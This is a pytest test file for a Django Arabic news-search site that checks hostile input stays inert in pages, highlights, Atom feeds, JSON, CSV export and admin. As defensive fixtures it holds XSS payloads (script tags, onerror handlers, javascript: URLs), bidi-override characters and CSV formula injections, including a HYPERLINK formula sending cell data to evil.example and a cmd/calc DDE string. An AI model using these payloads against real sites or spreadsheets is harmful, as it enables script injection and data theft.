"""XSS and escaping: article titles, bodies, sources, tags, import errors and URLs full of <script>, event-handler
attributes, javascript: URLs and right-to-left override characters stay inert everywhere: result lists, snippets,
highlights, the article page, topic and source pages, Atom feeds, the JSON API, the CSV export (formula injection)
and the admin; checked on the HTML the server sends, and in a real browser that no script runs and that no
Content-Security-Policy violation happens on the public pages.
"""

from __future__ import annotations

import csv
import io
import re
import unicodedata
import xml.etree.ElementTree as ET
from html.parser import HTMLParser

import pytest
from django.utils import timezone

RLO, PDF, LRI, PDI = "\u202e", "\u202c", "\u2066", "\u2069"
TITLE = (
    f'وزير الدفاع <script>window.__xss=1;alert(1)</script><img src=x onerror="window.__xss=2;alert(2)"> '
    f"\"'><svg onload=window.__xss=3> {RLO}txt.exe{PDF} {{{{ 7|add:7 }}}} {{% debug %}}"
)
BODY = "\n\n".join(
    [
        "قال وزير الدفاع إن <script>window.__xss=4;alert(4)</script> الجيش مستعد.",
        '<iframe src="javascript:window.__xss=5"></iframe> <a href="javascript:window.__xss=6;alert(6)">اضغط هنا</a> الوزير',
        f"{RLO}هذا نص معكوس الاتجاه لم يُغلق وزير <img src=x onerror=alert(7)>",
        "&lt;script&gt;alert(8)&lt;/script&gt; &amp;lt; \"quotes\" 'single' ` backtick ${alert(9)} وزير",
    ]
)
SOURCE_NAME = f'<b onmouseover="window.__xss=10">مصدر</b> {RLO}خبيث'
TAG_NAME = f"<script>window.__xss=11</script>وسم{RLO}"
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"وزير الدفاع")'
FORMULA_TAGS = ["@SUM(1+1)*cmd|' /C calc'!A0", "+وزير", "-2+3"]
DANGEROUS_SCHEME = re.compile(r"^(javascript|vbscript|data):", re.IGNORECASE)
# A script file of ours (the article page's citation.js): the one kind of script the CSP (script-src 'self') runs.
OWN_SCRIPT = re.compile(r"^/static/[\w/-]+\.js$")
_INVISIBLE = re.compile(r"[\x00-\x20\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]")


class _Tags(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.data: list[str] = []
        self.current: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))
        self.current.append(tag)

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_endtag(self, tag):
        if self.current and self.current[-1] == tag:
            self.current.pop()

    def handle_data(self, data):
        if self.current and self.current[-1] in ("script", "style"):
            self.data.append((self.current[-1], data))


def unsafe_markup(
    html: str, *, allow_external_scripts: bool = False, allowed_tags: set[str] | None = None
) -> list[str]:
    """Everything in `html` that could run script or that the CSP would refuse (inline script or style)."""
    parser = _Tags()
    parser.feed(html)
    parser.close()
    problems = []
    for tag, attrs in parser.tags:
        if allowed_tags is not None and tag not in allowed_tags:
            problems.append(f"<{tag}> not allowed here")
        if tag in ("iframe", "object", "embed", "frame", "frameset", "base", "applet"):
            problems.append(f"<{tag}>")
        src = dict(attrs).get("src") or ""
        if tag == "script" and not (src and (allow_external_scripts or OWN_SCRIPT.match(src))):
            if dict(attrs).get("type") != "application/json":
                problems.append("<script> without src")
        for name, value in attrs:
            if name.startswith("on"):
                problems.append(f"<{tag} {name}=…>")
            if name == "style":
                problems.append(f"<{tag} style=…> (inline style, refused by the CSP)")
            if name in ("href", "src", "action", "formaction", "xlink:href", "poster", "srcdoc") and value:
                if DANGEROUS_SCHEME.match(_INVISIBLE.sub("", value)):
                    problems.append(f"<{tag} {name}={value[:40]!r}>")
    problems += [f"inline <{kind}>" for kind, data in parser.data if data.strip()]
    return problems


@pytest.fixture
def hostile(db):
    """Articles, a source, tags and an import batch written by an attacker."""
    from articles.models import Article, ImportBatch, Source, Tag

    source = Source.objects.create(key="evil", name=SOURCE_NAME, slug="evil", url="https://evil.example/")
    tag = Tag.objects.create(name=TAG_NAME, slug="xss-tag", kind=Tag.Kind.TOPIC)
    formula_tags = [
        Tag.objects.create(name=n, slug=f"formula-{i}", kind=Tag.Kind.TOPIC) for i, n in enumerate(FORMULA_TAGS)
    ]
    when = timezone.now() - timezone.timedelta(days=3)
    article = Article(
        title=TITLE,
        lead=f"<b>ملخص</b>{RLO} <script>window.__xss=12</script>",
        body=BODY,
        source=source,
        url="https://evil.example/story?a=1&b=<script>",
        author='<img src=x onerror="window.__xss=13">',
        credit=f"{RLO}وكالة<script>alert(14)</script>",
        published_at=when,
    )
    article.save()
    article.tags.add(tag)
    formula = Article(title=FORMULA_TITLE, body="وزير الدفاع " + BODY, source=source, published_at=when)
    formula.save()
    formula.tags.add(*formula_tags)
    batch = ImportBatch.objects.create(
        status=ImportBatch.Status.FINISHED,
        failed=1,
        errors=[{"path": '<img src=x onerror="window.__xss=15">.txt', "reason": "<script>window.__xss=16</script>"}],
    )
    return {"article": article, "formula": formula, "source": source, "tag": tag, "batch": batch}


def public_pages(h) -> list[str]:
    a = h["article"]
    return [
        "/",
        "/search/?q=وزير",
        "/search/?q=الدفاع&sort=newest",
        f"/search/?tag={h['tag'].slug}",
        "/search/?q=" + "<script>window.__xss=20</script>%22onmouseover=%22window.__xss=21",
        f"/search/?q=وزير&source={h['source'].slug}",
        f"/articles/{a.pk}/",
        f"/articles/{a.pk}/?q=وزير الدفاع",
        f"/articles/{a.pk}/?q=<script>alert(22)</script>",
        f"/articles/{h['formula'].pk}/",
        f"/topics/{h['tag'].slug}/",
        f"/sources/{h['source'].slug}/",
        "/topics/",
    ]


def test_public_pages_render_hostile_text_inert(client, hostile):
    for url in public_pages(hostile):
        response = client.get(url)
        assert response.status_code == 200, url
        html = response.content.decode()
        assert not unsafe_markup(html), (url, unsafe_markup(html))
        assert "<script>window.__xss" not in html and 'onerror="window.__xss' not in html, url
        csp = response["Content-Security-Policy"]
        assert "script-src 'self'" in csp and "unsafe-inline" not in csp, url
    # Escaped, not dropped: a journalist sees what the source really wrote.
    detail = client.get(f"/articles/{hostile['article'].pk}/").content.decode()
    assert "&lt;script&gt;window.__xss=1;alert(1)&lt;/script&gt;" in detail
    assert "&lt;iframe" in detail and "&amp;lt;script&amp;gt;" in detail
    results = client.get("/search/?q=وزير").content.decode()
    assert "<mark>" in results and "&lt;script&gt;" in results


def test_highlighting_cannot_be_turned_into_markup(client, hostile):
    """Highlights wrap matched words in <mark> after escaping: a query naming the markup cannot unescape it."""
    for q in ("script", "img onerror", "mark", "&lt;", "<mark>", "وزير <script>", '"><mark onclick=alert(1)>'):
        for url in (f"/search/?q={q}", f"/articles/{hostile['article'].pk}/?q={q}", f"/api/search?q={q}"):
            response = client.get(url, {"q": q})
            text = response.content.decode()
            if url.startswith("/api/"):
                for item in response.json()["results"]:
                    assert not unsafe_markup(item["snippet"], allowed_tags={"mark"}), item["snippet"]
            else:
                assert not unsafe_markup(text), (url, unsafe_markup(text))


def test_feeds_carry_hostile_text_as_text(client, hostile):
    ns = {"a": "http://www.w3.org/2005/Atom"}
    for url in (
        "/search/feed/?q=وزير",
        f"/topics/{hostile['tag'].slug}/feed/",
        "/search/feed/?q=<script>alert(1)</script>وزير",
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        root = ET.fromstring(response.content)  # well-formed XML: nothing broke out of an element
        entries = root.findall("a:entry", ns)
        if "alert" in url:  # the query itself is hostile: it is the feed's title, as text
            assert "<script>alert(1)</script>" in root.findtext("a:title", namespaces=ns)
        else:
            titles = [e.findtext("a:title", namespaces=ns) for e in entries]
            assert any("<script>window.__xss=1" in t for t in titles), titles  # as text, which the XML escapes
        for entry in entries:
            summary = entry.find("a:summary", ns)
            if summary is not None:
                # type="html": a feed reader renders it, so it must hold no markup but <mark>.
                assert not unsafe_markup(summary.text or "", allowed_tags={"mark"}), summary.text
            for link in entry.findall("a:link", ns):
                assert not DANGEROUS_SCHEME.match(link.get("href", ""))
    raw = client.get("/search/feed/?q=وزير").content.decode()
    assert "<script>" not in raw and "<img " not in raw


def test_csv_neutralizes_formulas_in_every_cell(client, hostile):
    response = client.get("/search.csv", {"q": "وزير الدفاع"})
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][:2] == ["id", "title"]
    body = rows[1:]
    assert len(body) >= 2
    for row in body:
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), row
    titles = {r[1] for r in body}
    assert "'" + FORMULA_TITLE in titles
    tags = next(r[rows[0].index("tags")] for r in body if r[1] == "'" + FORMULA_TITLE)
    assert tags.startswith("'")  # the joined tag names start with "+", "-" or "@"


def test_api_serves_json_that_no_browser_renders_as_html(client, hostile):
    response = client.get("/api/search", {"q": "وزير"})
    assert response["Content-Type"].startswith("application/json")
    assert response["X-Content-Type-Options"] == "nosniff"
    data = response.json()
    assert any(item["title"] == TITLE for item in data["results"])  # the data as it is: escaping is the client's
    for item in data["results"]:
        assert not unsafe_markup(item["snippet"], allowed_tags={"mark"})
        assert not DANGEROUS_SCHEME.match(item["url"] or "")


def test_admin_pages_escape_hostile_articles_sources_tags_and_import_errors(client, hostile, django_user_model):
    admin = django_user_model.objects.create_superuser("boss", "boss@example.org", "not-a-real-password-9f3k")
    client.force_login(admin)
    h = hostile
    for url in (
        "/admin/articles/article/",
        f"/admin/articles/article/{h['article'].pk}/change/",
        "/admin/articles/article/?q=وزير",
        "/admin/articles/tag/",
        f"/admin/articles/tag/{h['tag'].pk}/change/",
        "/admin/articles/source/",
        f"/admin/articles/source/{h['source'].pk}/change/",
        "/admin/articles/importbatch/",
        f"/admin/articles/importbatch/{h['batch'].pk}/change/",
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        html = response.content.decode()
        assert "<script>window.__xss" not in html and 'onerror="window.__xss' not in html, url
        assert not [
            p for p in unsafe_markup(html, allow_external_scripts=True) if "on" in p and "=" in p and "style" not in p
        ], url


# --- javascript: URLs ---------------------------------------------------------------------------------------------


def test_a_javascript_url_in_an_imported_file_never_reaches_the_page(client, db, tmp_path):
    import json

    from articles.importing.pipeline import import_paths
    from articles.models import Article

    (tmp_path / "evil.json").write_text(
        json.dumps(
            [
                {
                    "title": "وزير الدفاع يزور الجنوب",
                    "content": "زار وزير الدفاع الجنوب اليوم.",
                    "url": "javascript:alert(1)",
                },
                {"title": "وزير المالية", "content": "قال وزير المالية.", "url": "  JaVaScRiPt:alert(2)"},
                {
                    "title": "وزير الداخلية",
                    "content": "قال وزير الداخلية.",
                    "url": "data:text/html,<script>alert(3)</script>",
                },
            ],
            ensure_ascii=False,
        )
    )
    import_paths([tmp_path], workers=1)
    assert Article.objects.count() == 3
    for article in Article.objects.all():
        assert article.url == ""
        assert not unsafe_markup(client.get(f"/articles/{article.pk}/").content.decode())


def test_a_javascript_url_stored_in_the_database_is_never_a_clickable_link(client, db):
    """The admin form validates URLs (http, https, ftp) and the importer now drops other schemes, but a javascript:
    URL stored some other way (a shell, an old import, a restored backup) is still rendered as the «original
    article» link on the article page, and a javascript: source URL as the link on the source page.

    Fix (templates/articles/detail.html and source.html, not ours): render the link only for web addresses:
        {% if article.url|slice:":7" == "http://" or article.url|slice:":8" == "https://" %}<a href="{{ article.url }}" …>…</a>{% endif %}
        {% if source.url|slice:":7" == "http://" or source.url|slice:":8" == "https://" %}…{% endif %}
    (or a `safe_url` property/filter doing the same, case-insensitively).
    """
    from articles.models import Article, Source

    source = Source.objects.create(key="js", name="مصدر", slug="js", url="javascript:window.__xss=30")
    article = Article(title="وزير الدفاع", body="نص المقال", url="javascript:window.__xss=31;alert(31)", source=source)
    article.save()
    problems = unsafe_markup(client.get(f"/articles/{article.pk}/").content.decode())
    problems += unsafe_markup(client.get(f"/sources/{source.slug}/").content.decode())
    assert not problems, problems


# --- in a real browser -----------------------------------------------------------------------------------------

# The `browser` fixture (one Chromium for the whole run) is in tests/conftest.py.

ISOLATION_CHECK = r"""
() => {
  // Every text node holding a bidi override or isolate character must not reorder the text after it: it has to be
  // inside an inline element that isolates (bdi, [dir]), or in a block of its own (one with a dir attribute, which
  // the templates give to blocks holding one field, or holding nothing else). Otherwise an unclosed RLO in a
  // headline or a source name would reverse the rest of the line (dates, sources, counts).
  // (Blocks report unicode-bidi: isolate in current browsers; that isolates the block from its parent, not the
  // text inside it from the rest of the block, so it does not count.)
  const controls = /[\u202a-\u202e\u2066-\u2069]/;
  const bad = [];
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  for (let node = walker.nextNode(); node; node = walker.nextNode()) {
    if (!controls.test(node.data)) continue;
    let el = node.parentElement, ok = false;
    while (el && el !== document.body) {
      const style = getComputedStyle(el);
      const inline = style.display.startsWith("inline") || style.display === "contents";
      if (inline && ["isolate", "isolate-override", "plaintext"].includes(style.unicodeBidi)) { ok = true; break; }
      if (!inline) { ok = el.hasAttribute("dir") || el.textContent.trim() === node.data.trim(); break; }
      el = el.parentElement;
    }
    if (!ok) bad.push((node.parentElement.outerHTML || "").slice(0, 160));
  }
  return bad;
}
"""


class _Watch:
    """Dialogs (alert/confirm/prompt) and CSP violations seen by one browser tab."""

    def __init__(self, tab):
        self.dialogs: list[str] = []
        self.csp: list[str] = []
        tab.on("dialog", self._dialog)
        tab.on("console", lambda msg: self.csp.append(msg.text) if "Content Security Policy" in msg.text else None)

    def _dialog(self, dialog):
        self.dialogs.append(dialog.message)
        dialog.dismiss()


def _visit(tab, watch, url):
    tab.goto(url)
    tab.wait_for_load_state("load")
    # Hover and focus everything that could carry a handler, in case one slipped through.
    tab.evaluate("""() => document.querySelectorAll('a, b, img, mark, bdi, h1, h3, p').forEach((el, i) => {
        if (i < 300) { el.dispatchEvent(new MouseEvent('mouseover', {bubbles: true})); } })""")
    flag = tab.evaluate("() => window.__xss === undefined ? null : String(window.__xss)")
    return flag


@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
def test_no_script_runs_in_a_real_browser_and_overrides_stay_isolated(browser, live_server, hostile):
    context = browser.new_context(base_url=live_server.url, locale="ar-TN")
    context.set_default_timeout(15_000)
    tab = context.new_page()
    watch = _Watch(tab)
    for url in public_pages(hostile):
        flag = _visit(tab, watch, url)
        assert flag is None, (url, flag)
        assert not watch.dialogs, (url, watch.dialogs)
        leaks = tab.evaluate(ISOLATION_CHECK)
        assert not leaks, (url, leaks)
        # The hostile markup is on the page as text, where the reader sees it.
        if url.startswith(f"/articles/{hostile['article'].pk}/"):
            assert "<script>window.__xss=1" in tab.locator("h1").inner_text()
    assert not watch.csp, watch.csp
    context.close()


@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
def test_no_script_runs_in_the_admin(browser, live_server, hostile, django_user_model):
    django_user_model.objects.create_superuser("boss", "boss@example.org", "not-a-real-password-9f3k")
    context = browser.new_context(base_url=live_server.url, locale="ar-TN")
    context.set_default_timeout(15_000)
    tab = context.new_page()
    watch = _Watch(tab)
    tab.goto("/admin/login/")
    tab.fill("#id_username", "boss")
    tab.fill("#id_password", "not-a-real-password-9f3k")
    tab.click("#login-form [type=submit]")
    tab.wait_for_url(re.compile(r"/admin/$"))
    h = hostile
    for url in (
        "/admin/articles/article/",
        f"/admin/articles/article/{h['article'].pk}/change/",
        "/admin/articles/tag/",
        f"/admin/articles/source/{h['source'].pk}/change/",
        "/admin/articles/importbatch/",
        f"/admin/articles/importbatch/{h['batch'].pk}/change/",
    ):
        flag = _visit(tab, watch, url)
        assert flag is None, (url, flag)
        assert not watch.dialogs, (url, watch.dialogs)
    context.close()


@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
def test_admin_pages_comply_with_the_content_security_policy(browser, live_server, hostile, django_user_model):
    """Inline <script>/<style> in templates/admin/articles/article/change_form.html and change_list.html are refused
    by the CSP: the one-click tag suggestion stops working (tests/browser/test_admin_browser.py fails).

    Fix (templates/admin, not ours): the same code moved to static files, already in static/articles/admin/:
        {% load static %}
        {% block extrastyle %}{{ block.super }}
        <link rel="stylesheet" href="{% static 'articles/admin/article_admin.css' %}">{% endblock %}
        {% block admin_change_form_document_ready %}{{ block.super }}
        <script src="{% static 'articles/admin/tag_suggestions.js' %}" defer></script>{% endblock %}
    and in change_list.html the <style> block replaced by the same <link>.
    """
    django_user_model.objects.create_superuser("boss", "boss@example.org", "not-a-real-password-9f3k")
    context = browser.new_context(base_url=live_server.url, locale="ar-TN")
    tab = context.new_page()
    watch = _Watch(tab)
    tab.goto("/admin/login/")
    tab.fill("#id_username", "boss")
    tab.fill("#id_password", "not-a-real-password-9f3k")
    tab.click("#login-form [type=submit]")
    tab.wait_for_url(re.compile(r"/admin/$"))
    for url in (
        "/admin/",
        "/admin/articles/article/",
        f"/admin/articles/article/{hostile['article'].pk}/change/",
        "/admin/articles/tag/",
        "/admin/articles/importbatch/",
    ):
        tab.goto(url)
        tab.wait_for_load_state("load")
    context.close()
    assert not watch.csp, watch.csp


@pytest.mark.parametrize("sign", ["\uff1d", "\ufe62", "\uff0d", "\uff20", "\ufe66"])  # fullwidth and small forms
def test_csv_neutralizes_formula_signs_that_nfkc_makes_ascii(client, hostile, sign):
    from articles.models import Article

    title = f"{sign}1+1 وزير الدفاع"
    Article(
        title=title, body="وزير الدفاع " + BODY, source=hostile["source"], published_at=hostile["formula"].published_at
    ).save()
    response = client.get("/search.csv", {"q": "وزير الدفاع"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert "'" + title in {r[1] for r in rows[1:]}
    for row in rows[1:]:
        for cell in row:
            assert unicodedata.normalize("NFKC", cell[:1])[:1] not in ("=", "+", "-", "@", "\t", "\r"), row
